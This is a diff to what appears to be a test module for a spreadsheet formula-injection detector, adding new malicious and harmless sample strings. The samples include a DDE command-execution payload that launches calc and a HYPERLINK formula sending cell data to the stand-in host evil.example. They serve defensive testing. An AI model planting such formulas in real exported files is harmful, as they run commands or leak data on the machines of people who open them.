@@ -31,6 +31,7 @@ FORMULAS = (
         "--1",
     ),
     *("\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "＝1", "＋1+1", "+a1", "-a1", "-(1)", "+A1 B2"),
+    *("a;=cmd|' /C calc'!A0", 'a; "=1"', "a\t=1", "a\n@SUM(1)", ";;＝1"),
     *('=HYPERLINK("http://evil.example?x="&A1)', "-1 +cmd|x", "+1 =2", "-1.5%+1", "-1 x!A1"),
 )
 HARMLESS = (
@@ -55,6 +56,8 @@ HARMLESS = (
         "Påhittat",
         "'=1",
         "<script>",
+        "a; -3.2 in the source; +1",
+        "N31857;N31002",
         "100+",
         "10-19",
         "a\tb",
